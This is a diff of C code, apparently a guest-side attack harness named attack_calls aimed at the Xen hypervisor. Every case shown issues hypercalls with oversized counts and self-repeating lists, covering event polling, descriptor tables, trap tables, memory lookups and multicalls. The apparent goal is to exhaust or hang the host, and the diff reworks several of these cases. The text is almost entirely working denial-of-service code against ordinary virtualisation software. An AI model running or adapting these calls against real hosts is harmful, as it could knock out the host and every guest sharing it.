@@ -92,28 +92,29 @@ void attack_calls(void) {
     case 5: case 6: case 7: case 8: case 9: /* grants: map, unmap, copy, swap, transfer */
         r = hypercall(HYPERVISOR_grant_table_op, (u64[]){0, 1, 5, 11, 4}[call - 5], lists, 0x7fffffff, 0);
         break;
-    case 10: { /* populate and give back: the list is the same frame again */
-        struct memory_reservation m = {(u64 *)lists, 0x3ffffff, 0, 0, DOMID_SELF};
-        r = hypercall(HYPERVISOR_memory_op, XENMEM_populate_physmap, (u64)&m, 0, 0);
+    case 10: { /* events: poll of more ports than may be, one that has no event again and again */
+        struct { u32 vcpu, port; } ipi = {0, 0};
+        hypercall(HYPERVISOR_event_channel_op, EVTCHNOP_bind_ipi, (u64)&ipi, 0, 0);
+        for (int i = 0; i < REPEATED; i++) repeated[i] = (u64)ipi.port << 32 | ipi.port;
+        struct { u64 ports; u32 count; u64 timeout; } p = {lists, 0x7fffffff, 0};
+        r = hypercall(HYPERVISOR_sched_op, SCHEDOP_poll, (u64)&p, 0, 0);
         break;
     }
-    case 11: /* events: poll of as many ports as may be */
-        { struct { u64 ports; u32 count; u64 timeout; } p = {lists, 0x7fffffff, 0};
-          r = hypercall(HYPERVISOR_sched_op, SCHEDOP_poll, (u64)&p, 0, 0); }
+    case 11: /* descriptor tables of more pages than may be, an empty one again and again */
+        set_entry(pool[2], mfn_of(pool[2]) << 12 | PTE_RO, UVMF_INVLPG);
+        for (int i = 0; i < REPEATED; i++) repeated[i] = mfn_of(pool[2]);
+        r = hypercall(HYPERVISOR_set_gdt, lists, 0x7fffffff, 0, 0);
         break;
-    case 12: /* descriptor tables */
-        r = hypercall(HYPERVISOR_set_gdt, lists, 0xffffffff, 0, 0);
-        break;
-    case 13: /* trap table without end */
+    case 12: /* trap table without end */
         for (int i = 0; i < REPEATED / 2; i++) ((struct trap_info *)repeated)[i] = (struct trap_info){200, 0, KERNEL_CS, 0, 1};
         r = hypercall(HYPERVISOR_set_trap_table, lists, 0, 0, 0);
         break;
-    case 14: { /* frame lists of the host */
+    case 13: { /* frame lists of the host */
         struct { u32 most, pad; u64 list; u32 n; } m = {0xffffffff, 0, lists, 0};
-        for (u64 i = 0; i < 100000; i++) r = hypercall(HYPERVISOR_memory_op, 12, (u64)&m, 0, 0);
+        for (u64 i = 0; i < 100000; i++) r = hypercall(HYPERVISOR_memory_op, XENMEM_machphys_mfn_list, (u64)&m, 0, 0);
         break;
     }
-    case 15: { /* multicall of calls that are long themselves */
+    case 14: { /* multicall of calls that are long themselves */
         for (int i = 0; i < REPEATED / 8; i++)
             ((struct multicall *)repeated)[i] = (struct multicall){HYPERVISOR_console_io, 0, {0, 0x7fffffff, lists}};
         r = hypercall(HYPERVISOR_multicall, lists, 0x0fffffff, 0, 0);
